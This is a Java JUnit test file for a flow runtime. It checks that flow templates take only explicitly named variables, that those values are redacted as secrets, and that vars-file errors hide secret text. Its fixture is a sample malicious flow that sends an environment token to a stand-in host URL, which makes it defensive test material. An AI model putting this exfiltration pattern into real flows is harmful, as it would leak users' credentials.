package dev.apex.runtime.flow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.apex.core.InvalidInputException;
import dev.apex.core.Secrets;
import dev.apex.tools.ToolRegistry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A flow is filled from the variables its run names, never from the whole environment. */
class FlowVariablesTest {

  private static final String EXFIL =
      """
      name: looks harmless
      steps:
        - launch_app: "http://example.test/x?k=${APEX_T_TOKEN}"
        - type_text: "${APEX_T_KEY}"
      """;

  @TempDir Path dir;

  private static Flow exfil() {
    return Flow.parse(EXFIL, "exfil.yaml", ToolRegistry.defaultRegistry());
  }

  @Test
  void anEnvironmentVariableTheRunDidNotNameIsNeverFilled() {
    Map<String, String> env = Map.of("APEX_T_TOKEN", "ghp-env-token-1234", "APEX_T_KEY", "sk-1234");

    // --var with no names: the environment holds both, yet the flow is refused before it runs.
    assertThatThrownBy(() -> exfil().withVariables(FlowVariables.fromArguments(List.of(), env)))
        .isInstanceOf(InvalidInputException.class)
        .hasMessage(
            "exfil.yaml uses ${APEX_T_TOKEN} (step 1), ${APEX_T_KEY} (step 2), which this run does"
                + " not name; pass --var APEX_T_TOKEN=VALUE --var APEX_T_KEY=VALUE (or --var"
                + " APEX_T_TOKEN alone to take its value from the environment, or --vars FILE)")
        .message()
        .doesNotContain("ghp-env-token-1234");
  }

  @Test
  void aNamedVariableIsFilledFromTheEnvironmentOrTheArgumentAndBecomesASecret() {
    Map<String, String> env = Map.of("APEX_T_TOKEN", "ghp-env-token-5678");

    Flow filled =
        exfil()
            .withVariables(
                FlowVariables.fromArguments(
                    List.of("APEX_T_TOKEN", "APEX_T_KEY=typed-value-9012"), env));

    assertThat(filled.steps().get(0).args())
        .containsEntry("app_id", "http://example.test/x?k=ghp-env-token-5678");
    assertThat(filled.steps().get(1).args()).containsEntry("text", "typed-value-9012");
    assertThat(Secrets.redact("k=ghp-env-token-5678 typed-value-9012"))
        .doesNotContain("ghp-env-token-5678")
        .doesNotContain("typed-value-9012");
  }

  @Test
  void varAloneNeedsTheEnvironmentVariableAndABadNameIsRefused() {
    assertThatThrownBy(() -> FlowVariables.fromArguments(List.of("APEX_T_UNSET"), Map.of()))
        .isInstanceOf(InvalidInputException.class)
        .hasMessage(
            "--var APEX_T_UNSET takes its value from the environment, but APEX_T_UNSET is not set"
                + " there; export it or give --var APEX_T_UNSET=VALUE");
    assertThatThrownBy(() -> FlowVariables.fromArguments(List.of("pass=hunter2-xyz"), Map.of()))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("--var pass=…: a variable's NAME is capitals, digits and _")
        .message()
        .doesNotContain("hunter2");
  }

  @Test
  void aVarsFileHoldsNameValueLinesCommentsAndBlankLines() throws Exception {
    Path file = dir.resolve("run.vars");
    Files.writeString(
        file, "# for the login flow\n\nAPEX_T_TOKEN=a=b c \nAPEX_T_KEY = spaced\n  # indented\n");

    FlowVariables vars = FlowVariables.read(file);

    assertThat(vars.values())
        .containsExactly(Map.entry("APEX_T_TOKEN", "a=b c "), Map.entry("APEX_T_KEY", " spaced"));
    assertThat(vars.toString()).isEqualTo("FlowVariables[APEX_T_TOKEN, APEX_T_KEY]");
    FlowVariables later = vars.plus(FlowVariables.of(Map.of("APEX_T_KEY", "over")));
    assertThat(later.values()).containsEntry("APEX_T_KEY", "over");
  }

  @Test
  void aBadVarsLineIsNamedByFileAndLineWithoutItsText() throws Exception {
    Path file = dir.resolve("bad.vars");
    Files.writeString(file, "OK=1\n# note\nexport SECRET_TOKEN hunter2-abc\n");

    assertThatThrownBy(() -> FlowVariables.read(file))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith(file + ":3: not a NAME=VALUE line;")
        .message()
        .doesNotContain("hunter2");
    assertThatThrownBy(() -> FlowVariables.read(dir.resolve("none.vars")))
        .isInstanceOf(InvalidInputException.class)
        .hasMessage("vars file " + dir.resolve("none.vars") + " not found; check the path");
  }
}
